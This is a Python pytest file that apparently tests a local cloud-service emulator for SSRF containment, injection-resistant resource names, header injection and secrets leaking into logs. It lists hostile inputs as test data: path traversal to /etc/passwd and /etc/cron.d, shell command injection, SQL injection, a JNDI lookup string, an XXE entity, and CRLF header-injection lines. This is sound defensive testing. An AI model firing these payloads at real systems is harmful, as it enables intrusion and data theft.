"""Attacks from without that need no browser: where deliveries may lead, what names may do, what the log tells."""
import base64
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import time
import urllib.parse

import pytest
from botocore.auth import SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from server import Server
from site_server import PASSWORD, Browser, Site

HERE = pathlib.Path(__file__).resolve().parent


# --- server-side request forgery --------------------------------------------------------------------

def can_have_a_world():
    return shutil.which("unshare") and shutil.which("ip") and subprocess.run(
        ["unshare", "-mn", "ip", "link", "set", "lo", "up"], capture_output=True, timeout=20).returncode == 0


def test_deliveries_reach_only_public_addresses_whatever_names_answer(tmp_path):
    if not can_have_a_world():
        pytest.skip("no network namespace of one's own here (needs unshare -mn and ip)")
    ran = subprocess.run(["unshare", "-mn", sys.executable, str(HERE / "ssrf_world.py"), str(tmp_path)], capture_output=True, text=True, timeout=80,
                         env={**os.environ, "PYTHONPATH": str(HERE)})
    assert ran.returncode == 0, ran.stderr[-3000:]
    world = json.loads(ran.stdout.splitlines()[-1])
    assert world["alive"]
    reached = {local.removeprefix("::ffff:") for local, _ in world["seen"]}
    paths = {path for _, path in world["seen"]}
    assert reached == {"203.0.113.5"}, world["seen"]
    assert {"/ok", "/ok2", "/redirect"} <= paths, "the attack could not have been seen"
    assert "/redirected" not in paths
    # One answer serves judging and connecting alike: a flip between the two has no place to happen.
    assert all(world["asked"].get(name, 0) >= 1 for name in ("flip.test", "flop.test", "both.test", "mapped.test", "loop6.test"))


# --- names that mean something to others --------------------------------------------------------------

NAMES = ["../../../../tmp/evil", "..\\..\\evil", "%2e%2e%2f%2e%2e%2fevil", "/etc/cron.d/evil", "a/../../../evil", "....//....//evil", "evil\x00.db", "evil\n../x",
         "\u2025/\u2025/evil", "~/evil", "file:///tmp/evil", "CON", "evil;touch evil", "$(touch evil)", "`touch evil`", "evil|id", "' OR 1=1 --", "\"; DROP TABLE documents; --",
         "x" * 5000, "\x7f\x1b[2Jevil", "{{7*7}}", "${jndi:ldap://evil}", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;"]


def files_below(folder):
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def test_no_name_becomes_a_path_a_command_or_a_statement(tmp_path):
    data = tmp_path / "deep" / "er" / "data"
    data.parent.mkdir(parents=True)
    with Server(data) as server:
        from client import Client
        aws = Client(server, "000000000000")
        logs, metrics, xray, sns = aws("logs"), aws("cloudwatch"), aws("xray"), aws("sns")
        now = int(time.time() * 1000)
        taken = 0
        for name in NAMES:
            calls = [
                lambda n=name: logs.create_log_group(logGroupName=n),
                lambda n=name: (logs.create_log_group(logGroupName="/safe"), None)[1],
                lambda n=name: logs.create_log_stream(logGroupName="/safe", logStreamName=n),
                lambda n=name: logs.put_log_events(logGroupName="/safe", logStreamName=n, logEvents=[{"timestamp": now, "message": n}]),
                lambda n=name: logs.put_metric_filter(logGroupName="/safe", filterName=n, filterPattern="", metricTransformations=[{"metricName": n, "metricNamespace": n, "metricValue": "1"}]),
                lambda n=name: logs.put_query_definition(name=n, queryString="fields @message"),
                lambda n=name: logs.create_export_task(logGroupName="/safe", fromTime=0, to=now, destination=n, destinationPrefix=n),
                lambda n=name: logs.tag_log_group(logGroupName="/safe", tags={n[:128]: n[:256]}),
                lambda n=name: metrics.put_metric_data(Namespace=n, MetricData=[{"MetricName": n, "Value": 1, "Dimensions": [{"Name": n, "Value": n}]}]),
                lambda n=name: metrics.put_metric_alarm(AlarmName=n, Namespace="x", MetricName="y", Statistic="Sum", Period=60, EvaluationPeriods=1, Threshold=1,
                                                        ComparisonOperator="GreaterThanThreshold", AlarmDescription=n),
                lambda n=name: metrics.put_dashboard(DashboardName=n, DashboardBody='{"widgets": []}'),
                lambda n=name: metrics.put_insight_rule(RuleName=n, RuleState="ENABLED", RuleDefinition=n),
                lambda n=name: xray.create_group(GroupName=n, FilterExpression="fault"),
                lambda n=name: xray.create_sampling_rule(SamplingRule={"RuleName": n, "ResourceARN": "*", "Priority": 1, "FixedRate": 1, "ReservoirSize": 1, "ServiceName": n,
                                                                       "ServiceType": "*", "Host": n, "HTTPMethod": "*", "URLPath": n, "Version": 1}),
                lambda n=name: xray.put_trace_segments(TraceSegmentDocuments=[json.dumps({"trace_id": f"1-{now // 1000:08x}-{'a' * 24}", "id": "b" * 16, "name": n, "start_time": now / 1000, "end_time": now / 1000})]),
                lambda n=name: sns.create_topic(Name=n),
                lambda n=name: sns.create_topic(Name="safe", Tags=[{"Key": n[:128], "Value": n[:256]}]),
            ]
            for call in calls:
                try:
                    call()
                    taken += 1
                except Exception as error:  # noqa: BLE001 - refused with a 4xx
                    status = getattr(error, "response", {}).get("ResponseMetadata", {}).get("HTTPStatusCode", 400)
                    assert 400 <= status < 500, (name, error)
        assert taken > 100
        for snapshot in NAMES[:8]:
            status, _, _ = server.http("POST", "/_fogwatch/snapshot", json.dumps({"name": snapshot}).encode())
            assert status < 500
        assert server.is_alive()
        for path in ("/console/../../../../etc/passwd", "/console/%2e%2e/%2e%2e/etc/passwd", "/console/..%2f..%2fetc/passwd", "/console//etc/passwd", "/console/assets/../index.html%00.js",
                     "/console/....//etc/passwd", "/SimpleNotificationService-..%2f..%2fetc%2fpasswd.pem", "/_fogwatch/../../../etc/passwd"):
            status, _, body = server.http("GET", path)
            assert status in (400, 404) and b"root:" not in body, path
        server.stop()
        assert {p for p in files_below(tmp_path) if not p.startswith("deep/er/data")} == {"deep", "deep/er"}
        allowed = re.compile(r"deep/er/data(\.log|/(FORMAT|LOCK|clock\.json|usage\.json|resources\.db(-wal|-shm|\.good)?|(wal|logs|metrics|traces|spool|keys|snapshots?)(/[\w.-]+)*))?$")
        strange = [p for p in files_below(tmp_path) if p.startswith("deep/er/data") and not (allowed.match(p) and "evil" not in p and ".." not in p)]
        assert strange == []
        server.start()
        assert aws("logs").describe_log_groups(logGroupNamePrefix="/safe")["logGroups"]


LINES = ["x\r\nX-Injected: yes", "x\nX-Injected: yes", "x\r\n\r\n<script>", "x%0d%0aX-Injected: yes", "x\u2028X-Injected: yes", "x\x85X-Injected: yes", "x\x00y"]


def test_line_feeds_make_no_headers_no_mails_and_no_log_lines(tmp_path):
    with Server(tmp_path / "data") as server:
        from client import Client
        sns = Client(server, "000000000000")("sns")
        topic = sns.create_topic(Name="t", Attributes={"DisplayName": "ok"})["TopicArn"]
        sns.subscribe(TopicArn=topic, Protocol="email", Endpoint="ops@example.org")
        for line in LINES:
            for call in (lambda: sns.publish(TopicArn=topic, Subject=line, Message="m"),
                         lambda: sns.set_topic_attributes(TopicArn=topic, AttributeName="DisplayName", AttributeValue=line),
                         lambda: sns.subscribe(TopicArn=topic, Protocol="email", Endpoint=f"a@example.org{line}"),
                         lambda: sns.subscribe(TopicArn=topic, Protocol="http", Endpoint=f"http://example.org/{line}"),
                         lambda: sns.publish(TopicArn=topic, Message="m", MessageAttributes={line: {"DataType": "String", "StringValue": line}})):
                try:
                    call()
                except Exception as error:  # noqa: BLE001
                    status = getattr(error, "response", {}).get("ResponseMetadata", {}).get("HTTPStatusCode", 400)
                    assert 400 <= status < 500, (line, error)
            quoted = urllib.parse.quote(line)
            for path in (f"/{quoted}", f"/console/{quoted}", f"/?Action={quoted}", f"/_fogwatch/{quoted}", f"/confirmation.html?TopicArn={quoted}"):
                status, headers, _ = server.http("GET", path, headers={"User-Agent": "probe"})
                assert "X-Injected" not in headers and status < 500, path
            server.http("POST", "/", b"{}", {"X-Amz-Target": "Logs_20140328." + quoted, "Content-Type": "application/x-amz-json-1.1"})
        for message in server.control("GET", "outbox")["messages"]:
            if message["protocol"] == "email" and message["raw"]:
                head = message["raw"].split("\r\n\r\n")[0]
                assert not re.search(r"^x-injected:", head, re.I | re.M), head
        server.stop()
        log = server.log(1_000_000)
        assert not re.search(r"^X-Injected", log, re.M)
        for line in log.splitlines():
            assert re.match(r"\d{4}-|\[|\{|listening|profile|Ready", line), line


# --- what the log tells ---------------------------------------------------------------------------------

def test_secrets_reach_neither_the_log_nor_the_list_of_requests(tmp_path):
    with Site(tmp_path, "--log-level", "debug", env={"FOGWATCH_SMTP_PASSWORD": "smtp-password-secret", "FOGWATCH_DELIVERY_SECRET_KEY": "delivery-key-secret",
                                                     "FOGWATCH_SMTP_URL": "smtp://127.0.0.1:1", "FOGWATCH_SMTP_USER": "u"}) as site:
        key, secret = site.secrets["admin"]
        token = "session-token-" + "s" * 40
        sns, logs = site.client("sns"), site.client("logs")
        topic = sns.create_topic(Name="t")["TopicArn"]
        sns.subscribe(TopicArn=topic, Protocol="http", Endpoint="http://user:endpoint-password@203.0.113.9/hook?token=query-secret")
        sns.subscribe(TopicArn=topic, Protocol="email", Endpoint="ops@example.org")
        sns.publish(TopicArn=topic, Message="hello", Subject="s")
        logs.describe_log_groups()
        site.signed("GET", "/_fogwatch/requests", headers={"X-Amz-Security-Token": token})
        # Presigned, and signed wrongly: the errors are logged too.
        request = AWSRequest(method="GET", url=site.server.url + "/?Action=ListTopics&Version=2010-03-31")
        SigV4QueryAuth(Credentials(key, secret, token), "sns", "us-east-1", expires=60).add_auth(request)
        target = request.url[len(site.server.url):]
        site.server.http("GET", target)
        presigned = urllib.parse.parse_qs(urllib.parse.urlsplit(target).query)["X-Amz-Signature"][0]
        wrong = f"AWS4-HMAC-SHA256 Credential={key}/20260101/us-east-1/sns/aws4_request, SignedHeaders=host, Signature={'c0ffee' * 10}abcd"
        site.server.http("POST", "/", b"Action=ListTopics&Version=2010-03-31", {"Authorization": wrong, "Content-Type": "application/x-www-form-urlencoded"})
        site.server.http("POST", "/services/collector/event", b"{}", {"Authorization": "Bearer bearer-token-secret"})
        site.server.http("GET", "/", headers={"Authorization": "Basic " + base64.b64encode(b"u:basic-secret").decode()})
        browser = Browser(site)
        browser.sign_in("ann", "a wrong password, typed")
        browser.sign_in()
        cookie = browser.cookie.split("=")[1]
        browser.logs("DescribeLogGroups", {})
        browser("POST", "/_fogwatch/users", {"name": "carl", "password": "the password of carl", "policies": []})
        made = json.loads(browser("POST", "/_fogwatch/keys", {"name": "k", "policies": []})[2])
        time.sleep(1.5)  # deliveries fail, and say so
        requests = browser("GET", "/_fogwatch/requests?limit=1000")[2].decode()
        health = browser("GET", "/health/detailed")[2].decode() + browser("GET", "/metrics")[2].decode()
        log = site.server.log(1_000_000)
        data = tmp_path / "data"
        secrets = {"secret key": secret, "token": token, "signature": presigned, "wrong signature": "c0ffee" * 10, "bearer": "bearer-token-secret",
                   "basic": base64.b64encode(b"u:basic-secret").decode(), "endpoint": "endpoint-password", "endpoint's query": "query-secret", "password": PASSWORD, "typed": "a wrong password, typed",
                   "new password": "the password of carl", "cookie": cookie, "new key": made["secret_key"], "smtp": "smtp-password-secret", "delivery": "delivery-key-secret"}
        for what, word in secrets.items():
            assert word not in log, f"{what} is in the log: " + [line for line in log.splitlines() if word in line][0]
            assert word not in requests, f"{what} is in the list of requests"
            assert word not in health, what
        assert "signed in" in log and "wrong user or password" in log  # and it does tell what an operator needs
        # On disk a password is a hash, a session nothing.
        stored = b"".join(p.read_bytes() for p in data.rglob("*") if p.is_file())
        for what in ("password", "typed", "new password", "cookie", "secret key", "new key"):
            assert secrets[what].encode() not in stored, what
        assert (tmp_path / "keys.json").stat().st_mode & 0o77 == 0
